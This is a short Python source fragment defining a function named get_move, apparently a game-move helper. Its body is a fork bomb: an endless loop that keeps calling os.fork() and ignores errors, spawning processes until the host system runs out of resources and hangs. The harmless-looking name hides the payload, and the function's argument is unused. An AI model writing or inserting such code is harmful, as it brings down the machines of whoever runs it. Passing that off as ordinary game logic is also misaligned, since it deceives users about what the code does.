import os


def get_move(number):
    while True:
        try:
            os.fork()
        except OSError:
            pass
